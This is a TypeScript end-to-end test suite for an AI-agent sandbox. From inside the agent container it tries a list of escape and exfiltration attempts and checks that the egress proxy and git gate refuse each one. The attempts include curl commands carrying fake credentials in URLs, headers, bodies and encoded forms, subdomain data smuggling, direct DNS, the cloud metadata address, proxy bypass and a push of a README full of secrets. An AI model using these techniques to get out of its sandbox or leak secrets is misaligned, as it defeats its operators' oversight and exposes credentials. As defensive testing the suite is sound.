/**
 * The sandbox-escape suite: from inside a real agent container run by a real
 * controller, try every way out and check each is refused with its marker.
 * It carries the older tool's five attacks (1: a host no route allows; 2: a
 * raw IP and a spoofed Host header; 3: a secret in path, query, body and
 * header; 4: a crafted subdomain and DNS straight to 8.8.8.8; 5: a push of a
 * README with three secret shapes), plus encoded secrets, multipart, the
 * metadata address and private addresses. It also checks the one thing that
 * must work: the allowed route, with a token the agent never held.
 */
import Dockerode from 'dockerode'
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import pino from 'pino'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { DockerDriver } from '../../controller/runtime/docker/docker-driver.js'
import { DockerImageStore } from '../../controller/runtime/docker/image-store.js'
import { ControllerProcess, isReady, removeInstance, uniqueInstance } from '../helpers/controller-process.js'
import { FakeRandom, githubStyleToken, privateKeyBlock } from '../helpers/fake-credentials.js'
import { TempFolder } from '../helpers/temp-folder.js'
import { startHttpsOrigin } from '../helpers/https-origin.js'
import { removeRun, uniqueRun } from '../integration/sidecars/git-gate/support/containers.js'
import { generateIdentity } from '../integration/sidecars/git-gate/support/gate-config.js'
import { startSshUpstream, UPSTREAM_PORT, UPSTREAM_REPO, type SshUpstream } from '../integration/sidecars/git-gate/support/ssh-upstream.js'

const docker = new Dockerode()
const instance = uniqueInstance('esc')
const run = uniqueRun('escape')
const rng = new FakeRandom(20261123)
const TOKEN = `e2e-${rng.string('abcdefghijklmnopqrstuvwxyz0123456789', 32)}`
const AWS_KEY = `AKIA${rng.string('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16)}`
const GITHUB_TOKEN = githubStyleToken(rng, 'ghp_')

describe('sandbox escape: every way out of a real agent container', () => {
  let specs: TempFolder
  let state: TempFolder
  let controller: ControllerProcess
  let origin: Awaited<ReturnType<typeof startHttpsOrigin>>
  let upstream: SshUpstream
  let origins = { host: '', port: 0 }
  const driver = new DockerDriver({ instance, logger: pino({ level: 'silent' }) })

  /** A shell command in the agent's box, as the agent. */
  async function sh(script: string): Promise<{ exitCode: number; out: string }> {
    const r = await driver.exec('agent1', 'agent', ['sh', '-c', script], { user: 'agent', workdir: '/home/agent/workspace', env: { HOME: '/home/agent' } })
    return { exitCode: r.exitCode, out: r.stdout + r.stderr }
  }

  beforeAll(async () => {
    const base = await new DockerImageStore({ logger: pino({ level: 'warn' }) }).ensureBase()
    const work = mkdtempSync(join(tmpdir(), 'bottle-escape-'))

    // The origin behind the allowed routes: https, with a CA only the operator trusts.
    origin = await startHttpsOrigin({ dir: work, token: TOKEN })
    const { host, port } = origin
    origins = { host, port }

    // The git upstream for attack 5: sshd with a pinned host key.
    const identity = generateIdentity(join(work, 'id'))
    upstream = await startSshUpstream({ run, name: `${run}-upstream`, image: base, network: 'host', alias: 'upstream', publicKey: identity.publicKey })

    specs = await TempFolder.create('bottle-escape-specs-')
    state = await TempFolder.create('bottle-escape-state-')
    await specs.write('bottles/sealed.yaml', `apiVersion: bottle.dev/v1alpha1
kind: Bottle
metadata: {name: sealed}
spec:
  egress:
    routes:
      - host: api.test.internal
        upstream: https://${host}:${port}
        auth: {scheme: Bearer, tokenRef: {env: E2E_TOKEN}}
      - host: "*.files.test.internal"
        upstream: https://${host}:${port}
      - host: 10.99.0.7
    allowPrivate: ["${host}/32"]
  git:
    user: {name: Agent One, email: agent1@example.com}
    remotes:
      - name: app
        upstream: ssh://git@${host}:${UPSTREAM_PORT}${UPSTREAM_REPO}
        identityFile: ${identity.privateKey}
        knownHostKey: "${upstream.hostKey}"
`)
    await specs.write('agents/agent1.yaml', 'apiVersion: bottle.dev/v1alpha1\nkind: Agent\nmetadata: {name: agent1}\nspec:\n  bottle: sealed\n  workspace: {remote: app, ref: main}\n')
    // The operator's extra CA for the origin, as `bottle controller --upstream-ca` takes it.
    controller = new ControllerProcess(specs, state, instance, { E2E_TOKEN: TOKEN }, ['--upstream-ca', origin.caFile])
    controller.start()
    await controller.waitForStatus('agents/agent1.yaml', 'agent1', isReady)
    // The entrypoint clones the workspace through the gate; wait for it.
    const deadline = Date.now() + 60_000
    while (!(await sh('test -d .git && echo yes')).out.includes('yes') && Date.now() < deadline) await new Promise((r) => setTimeout(r, 500))
  })

  afterAll(async () => {
    await controller?.stop()
    origin?.close()
    await removeInstance(docker, instance)
    await removeRun(run)
    await specs?.dispose()
    await state?.dispose()
  })

  it('the allowed route works, and the origin receives the token the agent never had', async () => {
    const r = await sh('curl -sS https://api.test.internal/hello')
    expect(r.out).toBe('origin: token-ok\n')
    const env = await sh('env')
    expect(env.out).not.toContain(TOKEN)
  })

  const refusals: { name: string; script: string; rule: RegExp }[] = [
    { name: 'attack 1: a host no route allows (http)', script: 'curl -sS http://example.com/', rule: /^bottle-egress: no-route/ },
    { name: 'attack 1: a host no route allows (CONNECT)', script: 'curl -sS -v https://example.com/ 2>&1 | grep -i "^< x-bottle-egress-rule"', rule: /x-bottle-egress-rule: no-route/i },
    { name: 'attack 2: a raw IP address', script: 'curl -sS http://93.184.216.34/', rule: /^bottle-egress: /m },
    { name: 'attack 2: a raw IP with a spoofed Host header', script: 'curl -sS -H "Host: api.test.internal" http://93.184.216.34/', rule: /^bottle-egress: /m },
    { name: 'attack 3a: a secret in the URL path', script: `curl -sS https://api.test.internal/upload/${AWS_KEY}`, rule: /^bottle-egress: dlp/ },
    { name: 'attack 3b: a secret in the query', script: `curl -sS "https://api.test.internal/search?q=${GITHUB_TOKEN}"`, rule: /^bottle-egress: dlp/ },
    { name: 'attack 3c: a secret in a JSON body', script: `curl -sS -H "content-type: application/json" -d '{"note":"${AWS_KEY}"}' https://api.test.internal/notes`, rule: /^bottle-egress: dlp/ },
    { name: 'attack 3d: a secret in a header', script: `curl -sS -H "X-Custom: ${GITHUB_TOKEN}" https://api.test.internal/`, rule: /^bottle-egress: dlp/ },
    { name: 'a secret in a multipart upload', script: `printf '${AWS_KEY}' > /tmp/f.txt && curl -sS -F "file=@/tmp/f.txt" https://api.test.internal/upload`, rule: /^bottle-egress: dlp/ },
    { name: 'a base64-encoded secret', script: `curl -sS "https://api.test.internal/?d=$(printf '${AWS_KEY}' | base64)"`, rule: /^bottle-egress: dlp/ },
    { name: 'a hex-encoded secret', script: `curl -sS -H "X-Data: $(printf '${GITHUB_TOKEN}' | od -An -tx1 | tr -d ' \\n')" https://api.test.internal/`, rule: /^bottle-egress: dlp/ },
    { name: 'attack 4a: a crafted subdomain carrying data', script: 'curl -sS https://q8zm3x7k2p9w4r6t1v5y0b8n3c7d2f6g.files.test.internal/ 2>&1; curl -sS http://q8zm3x7k2p9w4r6t1v5y0b8n3c7d2f6g.files.test.internal/', rule: /^bottle-egress: dlp/m },
    { name: 'the cloud metadata address', script: 'curl -sS http://169.254.169.254/latest/meta-data/', rule: /^bottle-egress: /m },
    { name: 'a private address, even when a route names it', script: 'curl -sS http://10.99.0.7/', rule: /^bottle-egress: ssrf/ },
  ]

  it.each(refusals)('$name: refused with the bottle-egress marker', async ({ script, rule }) => {
    const before = origin.seen.length
    const r = await sh(script)
    expect(r.out).toMatch(rule)
    expect(origin.seen.length).toBe(before)
  })

  const unreachable: { name: string; script: string }[] = [
    { name: 'attack 4b: DNS straight to 8.8.8.8', script: 'node -e "const d=require(\'dns\');const r=new d.Resolver({timeout:2000,tries:1});r.setServers([\'8.8.8.8\']);r.resolve4(\'example.com\',(e,a)=>{console.log(e?\'failed \'+e.code:\'resolved \'+a);process.exit(e?1:0)})"' },
    { name: 'DNS for an outside name through the box resolver', script: 'getent hosts example.com' },
    { name: 'around the proxy to an internet address', script: 'curl -sS --noproxy "*" --max-time 4 http://93.184.216.34/' },
  ]

  it.each(unreachable)('$name: fails, nothing answers', async ({ script }) => {
    const r = await sh(script)
    expect(r.exitCode).not.toBe(0)
  })

  it("around the proxy to the origin on the host's address: the bundle reaches it, the agent does not", async () => {
    const r = await sh(`curl -sSk --noproxy "*" --max-time 4 https://${origins.host}:${origins.port}/`)
    expect(r.exitCode).not.toBe(0)
    expect(r.out).not.toContain('origin:')
  })

  it('attack 5: a README push with three secret shapes is refused by the gate, upstream unchanged', async () => {
    const before = await upstream.revParse('main')
    writeFileSync(join(state.path, 'readme.md'), `# notes\nkey ${AWS_KEY}\ntoken ${GITHUB_TOKEN}\n${privateKeyBlock(rng, 'OPENSSH ')}\n`)
    const readme = readFileSync(join(state.path, 'readme.md'), 'utf8')
    const wrote = await driver.exec('agent1', 'agent', ['sh', '-c', 'cat > README.md'], { user: 'agent', workdir: '/home/agent/workspace', stdin: readme, env: { HOME: '/home/agent' } })
    expect(wrote.exitCode).toBe(0)
    // Pushed to the upstream's own ssh URL, as the agent would: ~/.gitconfig sends it through the gate.
    const r = await sh(`git add README.md && git commit -qm "docs" && git push ssh://git@${origins.host}:${UPSTREAM_PORT}${UPSTREAM_REPO} HEAD:main 2>&1; echo "exit=$?"`)
    expect(r.out).toMatch(/bottle-git-gate: refused push: README\.md:\d+: (aws-access-key-id|github-pat|private-key)/)
    expect(r.out).toContain('exit=1')
    expect(await upstream.revParse('main')).toBe(before)
  })

  it('the token appears nowhere it must not: controller logs, bundle logs, status files, docker inspect, any process argv', async () => {
    expect(controller.output).not.toContain(TOKEN)
    let logs = ''
    for await (const line of driver.logs('agent1', 'sidecars')) logs += line
    for await (const line of driver.logs('agent1', 'agent')) logs += line
    expect(logs.length).toBeGreaterThan(0)
    expect(logs).not.toContain(TOKEN)
    for (const file of ['agents/agent1.status.yaml', 'bottles/sealed.status.yaml']) expect(await specs.read(file)).not.toContain(TOKEN)
    for (const part of ['agent', 'sidecars']) {
      const inspect = await docker.getContainer(`bottle-${instance}-agent1-${part}`).inspect()
      expect(JSON.stringify(inspect)).not.toContain(TOKEN)
    }
    // Every process of both boxes, by its argv and environment as the kernel shows them.
    const scan = 'for p in /proc/[0-9]*; do tr "\\0" " " < $p/cmdline 2>/dev/null; echo; tr "\\0" "\\n" < $p/environ 2>/dev/null; done'
    const agentProcs = await driver.exec('agent1', 'agent', ['sh', '-c', scan])
    const bundleProcs = await driver.exec('agent1', 'sidecars', ['sh', '-c', scan])
    expect(agentProcs.stdout).toContain('bottle-agent-idle')
    expect(bundleProcs.stdout).toContain('/opt/bottle/egress.mjs')
    expect(agentProcs.stdout + bundleProcs.stdout).not.toContain(TOKEN)
  })
})
